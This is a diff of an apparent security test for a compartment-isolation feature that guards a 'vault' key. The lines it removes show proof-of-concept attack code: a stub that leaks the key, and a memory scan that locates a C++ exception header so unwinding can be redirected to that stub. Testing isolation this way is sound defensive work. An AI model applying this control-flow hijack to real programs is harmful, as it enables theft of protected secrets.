@@ -59,6 +59,8 @@
 #include <stdio.h>
 #include <string.h>
 #include <unistd.h>
+#include "Inputs/key0-words.h"
+#include "Inputs/exception-header.h"
 
 BULKHEAD_DATA(vault) char vault_key[32] = "TOP-SECRET-VAULT-KEY";
 BULKHEAD_DATA(vault) int vault_ack_fd;
@@ -92,60 +94,10 @@ extern "C" BULKHEAD_ENTRY(vault) int vault_catch(int fd, int v) {
   return 0;
 }
 
-static char stolen[64] = "ATTACK SUCCEEDED: ";
-static const char *volatile from = vault_key; /* key-0 words */
-extern "C" __attribute__((used)) void take(void) {
-  int n = 18;
-  for (int i = 0; i < 31 && from[i]; i++)
-    stolen[n++] = from[i];
-  stolen[n++] = '\n';
-  write(1, stolen, n);
-  _exit(0);
-}
-/* Called as a stop function or a cleanup: realign, then take. */
-__asm__(".text\n"
-        ".globl steal\n"
-        ".type steal, @function\n"
-        "steal:\n"
-        "  andq $-16, %rsp\n"
-        "  call take\n"
-        "  ud2\n"
-        ".size steal, .-steal\n");
+#include "Inputs/steal-vault-key.h"
 
 static int ack[2];
 static int forge;
-
-extern "C" char __executable_start[], etext[];
-
-/* The header's catchTemp word, once the search phase has set it to a
- * landing pad (in the executable's code: the vault's catch); the unwind
- * header's words are above it. */
-static uintptr_t *find_landing_pad(void) {
-  FILE *f = fopen("/proc/self/smaps", "r");
-  char line[512];
-  uintptr_t lo = 0, hi = 0, *found = NULL;
-  int rw = 0, key;
-  while (f && !found && fgets(line, sizeof line, f)) {
-    uintptr_t l, h;
-    char perms[8];
-    if (sscanf(line, "%lx-%lx %4s", &l, &h, perms) == 3) {
-      lo = l, hi = h, rw = perms[0] == 'r' && perms[1] == 'w';
-      rw = rw && !strstr(line, "[stack]");
-      continue;
-    }
-    if (sscanf(line, "ProtectionKey: %d", &key) != 1 || !rw || key)
-      continue;
-    for (uintptr_t *w = (uintptr_t *)lo + 2; w + 1 <= (uintptr_t *)hi; w++)
-      if (*w == 0x474e5543432b2b00ull && /* "GNUCC++\0" */
-          w[-2] > (uintptr_t)__executable_start && w[-2] < (uintptr_t)etext) {
-        found = w - 2;
-        break;
-      }
-  }
-  if (f)
-    fclose(f);
-  return found;
-}
 
 static void *attacker(void *) {
   uintptr_t *pad;
